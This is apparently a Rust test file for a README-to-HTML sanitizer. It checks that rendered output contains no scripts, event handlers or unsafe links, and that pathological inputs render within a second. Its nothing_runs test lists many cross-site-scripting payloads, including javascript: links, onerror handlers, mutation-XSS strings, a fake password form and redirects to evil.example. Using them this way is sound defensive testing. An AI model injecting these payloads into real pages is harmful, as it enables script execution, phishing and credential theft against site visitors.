//! Readmes that try to run something, to look like the page, or to take all its time.

use std::time::Duration;

use super::super::{MAX_BYTES, Notice, Readme, Source, Syntax, render};
use super::markdown;

/// Fails if the HTML has an element or an attribute that could run, load or imitate something.
fn assert_harmless(html: &str) {
    let lower = html.to_lowercase();
    for tag in [
        "script", "style", "svg", "math", "form", "iframe", "object", "embed", "meta", "base", "link", "img", "video",
        "audio", "source", "textarea", "select", "button", "template", "noscript", "picture", "title", "frameset",
    ] {
        assert!(!lower.contains(&format!("<{tag}")), "<{tag} in {html}");
    }
    // Within a tag, every `<` and `"` of a value is escaped, so that splitting finds the real attributes.
    for tag in html.split('<').skip(1).filter_map(|part| part.split('>').next()) {
        for name in tag.split('"').step_by(2).flat_map(str::split_whitespace).skip(1) {
            let name = name.trim_end_matches('=').to_lowercase();
            assert!(
                !name.starts_with("on") && name != "style" && name != "srcset" && name != "src",
                "{name} in {html}"
            );
        }
        let scheme = tag.split("href=\"").nth(1).map(|href| href.to_lowercase());
        if let Some(href) = scheme {
            assert!(["http:", "https:", "mailto:", "#readme-"].iter().any(|start| href.starts_with(start)), "{html}");
        }
    }
}

#[test]
fn nothing_runs() {
    for attack in [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=https://a.example/x onerror=\"alert(1)\">",
        "![x](https://a.example/\"onerror=\"alert(1))",
        "![\"><script>alert(1)</script>](https://a.example/a.png)",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\" &#106;avascript:alert(1)\">x</a>",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:msgbox(1))",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<svg onload=alert(1)><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<style>* { background: url(https://evil.example/) }</style>",
        "<p style=\"background:url(https://evil.example/)\">x</p>",
        "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
        "<iframe src=https://evil.example></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=x></object><embed src=x>",
        "<meta http-equiv=refresh content=0;url=https://evil.example>",
        "<base href=https://evil.example/>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<video src=https://evil.example/x autoplay onplay=alert(1)><source src=x></video>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<textarea><script>alert(1)</script>",
        "<title><img src=x onerror=alert(1)></title>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<a href='https://a.example' onclick='alert(1)' target=_top ping=https://evil.example>x</a>",
        "<picture><source srcset=https://evil.example/x><img src=https://a.example/y srcset=https://evil.example/z></picture>",
        "```\"><script>alert(1)</script>\nx\n```",
        "```js onload=alert(1)\nx\n```",
        "<div class='page-header sticky'>x</div>",
        "<h1 id='\"><script>alert(1)</script>'>x</h1>",
        "[x]: javascript:alert(1)\n[x]",
        "<javascript:alert(1)>",
        "<table><tr><td><script>alert(1)</script></table>",
        "<input type=checkbox onfocus=alert(1) autofocus>",
        "<a name=\"x\" onmouseover=alert(1)>",
        "<plaintext><script>alert(1)</script>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
    ] {
        for syntax in [Syntax::Markdown, Syntax::Html, Syntax::Text] {
            assert_harmless(&render(Source { text: attack, syntax, repository: None }).html);
        }
    }
    assert!(!markdown("<div class='page-header'>x</div>").html.contains("class"));
}

#[test]
fn ids_cannot_stand_for_something_of_the_page() {
    let html = markdown(
        "<a id=search></a><div id=\"readme-x\">1</div><img name=cookie src=x><p id=search>2</p>\n\n# search\n",
    )
    .html;
    let ids: Vec<&str> = html.split(" id=\"").skip(1).filter_map(|rest| rest.split('"').next()).collect();
    assert!(ids.iter().all(|id| id.starts_with("readme-")), "{ids:?}");
    let mut unique = ids.clone();
    unique.sort_unstable();
    unique.dedup();
    assert_eq!(ids.len(), unique.len(), "{ids:?}");
    assert!(!html.contains("name="), "{html}");
}

/// Renders on a stack of the size that Tokio's threads have, and within the second that a page may take.
fn rendered(name: &str, text: String, syntax: Syntax) -> Readme {
    let thread = std::thread::Builder::new().stack_size(2 << 20).name(name.to_owned());
    let work = move || {
        let start = time_of_thread();
        (render(Source { text: &text, syntax, repository: None }), time_of_thread() - start)
    };
    let (readme, elapsed) = thread.spawn(work).unwrap().join().unwrap();
    println!("{name}: {elapsed:?}, {} bytes, {:?}", readme.html.len(), readme.notice);
    assert!(elapsed < Duration::from_secs(1), "{name} took {elapsed:?}");
    readme
}

/// Returns the processor's time of this thread, which does not depend on what else the machine does.
#[cfg(unix)]
fn time_of_thread() -> Duration {
    let time = rustix::time::clock_gettime(rustix::time::ClockId::ThreadCPUTime);
    Duration::new(time.tv_sec.try_into().unwrap(), time.tv_nsec.try_into().unwrap())
}

#[cfg(not(unix))]
fn time_of_thread() -> Duration {
    std::time::UNIX_EPOCH.elapsed().unwrap()
}

fn filled(part: &str) -> String {
    part.repeat(MAX_BYTES / part.len())
}

#[test]
fn a_megabyte_of_anything_takes_less_than_a_second() {
    let half = MAX_BYTES / 2;
    let numbered = |part: fn(usize) -> String| (0..30_000).map(part).collect::<String>();
    let quotes_of_depth = |lines: usize, depth: usize| format!("{}x\n", "> ".repeat(depth)).repeat(lines);
    let list = (0..700).map(|depth| format!("{}- x\n", "  ".repeat(depth))).collect::<String>();
    for (name, text) in [
        ("brackets", filled("[")),
        ("image brackets", filled("![")),
        ("closed brackets", format!("{}{}", "[".repeat(half), "]".repeat(half))),
        ("links in brackets", filled("[a](")),
        ("nested links", format!("{}x{}", "[".repeat(half / 4), "](a)".repeat(half / 4))),
        ("footnotes", filled("[^a]")),
        ("footnote definitions", numbered(|n| format!("[^{n}]: [^{n}]\n\n"))),
        ("footnotes in depth", format!("{}[^a]\n\n[^a]: x", ">".repeat(half))),
        ("quotes", filled("> ")),
        ("quotes 10,000 deep", format!("{}x", ">".repeat(10_000))),
        ("lines of quotes", quotes_of_depth(1_000, 500)),
        ("list items", filled("- ")),
        ("numbered items", filled("1. ")),
        ("a deep list", list),
        ("stars", filled("*")),
        ("emphasis", format!("{}a{}", "*".repeat(half), "*".repeat(half))),
        ("open emphasis", filled("*a ")),
        ("mixed emphasis", filled("*a **a ")),
        ("underscores", filled("_a__b")),
        ("strikethrough", filled("~~a~")),
        ("backticks", numbered(|n| format!("{} ", "`".repeat(n % 50 + 1)))),
        ("table", format!("|{}\n|{}\n{}", "a|".repeat(300), "-|".repeat(300), "|x\n".repeat(200_000))),
        ("wide table", format!("|{}\n|{}\n", "a|".repeat(half / 2), "-|".repeat(half / 2))),
        ("addresses", filled("http://a.b/((")),
        ("mail addresses", filled("a@b.")),
        ("entities", filled("&#0;")),
        ("shortcodes", filled(":a")),
        ("references", numbered(|n| format!("[{n}]: /x\n[{n}]\n"))),
        ("headings", filled("# a\n")),
        ("angles", filled("<")),
        ("open tags", filled("<a ")),
        ("comments", filled("<!-")),
        ("processing instructions", filled("<?")),
        ("NUL", filled("\0")),
        ("newlines", filled("\n")),
        ("carriage returns", filled("\r")),
        ("tabs", filled("\t")),
        ("combining marks", filled("a\u{301}\u{202e}")),
    ] {
        rendered(name, text, Syntax::Markdown);
    }
}

#[test]
fn costly_html_takes_less_than_a_second() {
    let numbered = |count: usize, part: fn(usize) -> String| (0..count).map(part).collect::<String>();
    for (name, text) in [
        ("div 10,000 deep", "<div>".repeat(10_000)),
        ("blockquote 10,000 deep", format!("{}x{}", "<blockquote>".repeat(10_000), "</blockquote>".repeat(10_000))),
        ("lists", filled("<ul><li>")),
        ("bold", filled("<b>")),
        (
            "copies of formatting",
            format!("{}{}", numbered(1_000, |n| format!("<i title={n}><b title={n}>")), "<p>x".repeat(100_000)),
        ),
        ("few copies, many times", format!("{}{}", "<b><i><u>".repeat(10), "<p>x".repeat(200_000))),
        ("copies of what differs", numbered(100, |n| format!("<p><b title={n}>")) + &"<p>x".repeat(50_000)),
        ("misnested", filled("<b><p></b>")),
        ("links", filled("<a href=x>")),
        ("tables", filled("<table><tr><td>")),
        ("text between cells", format!("<table>{}", "<b>x</b>".repeat(38_000))),
        ("breaks between cells", format!("<table>{}", "<br>".repeat(115_000))),
        ("tables between cells", format!("<table>{}", "<table>x".repeat(55_000))),
        ("attributes", format!("<a {}>", numbered(150_000, |n| format!("a{n} ")))),
        ("quoted attributes", format!("<a {}>", numbered(100_000, |n| format!("a{n}='>'")))),
        ("quoted attributes with brackets", format!("<a {}>", numbered(90_000, |n| format!("a{n}='<b>'")))),
        ("ids", numbered(50_000, |n| format!("<p id={n}>"))),
        ("svg", filled("<svg>")),
        ("script", filled("<script>")),
        ("select", filled("<select><option>")),
        ("headings", filled("<h1>a")),
        ("images", filled("<img src=//a.b/c>")),
        ("end tags", filled("</div>")),
        ("paragraph ends", filled("</p>")),
        ("line ends", filled("</br>")),
    ] {
        assert_harmless(&rendered(name, text, Syntax::Html).html);
    }
}

#[test]
fn what_nests_too_deeply_is_shown_as_plain_text() {
    for text in [">".repeat(10_000) + "x", "<div>".repeat(10_000) + "x", "<b><i>".repeat(5_000) + "x"] {
        let readme = rendered("deep", text, Syntax::Markdown);
        assert_eq!(readme.notice, Some(Notice::TooComplex));
        assert!(readme.html.starts_with("<pre class=\"plain\" tabindex=\"0\">") && readme.html.ends_with("x</pre>"));
    }
    let readme = rendered("usual", "> > > > - 1\n".to_owned() + &"<div>".repeat(20), Syntax::Markdown);
    assert_eq!(readme.notice, None);
}
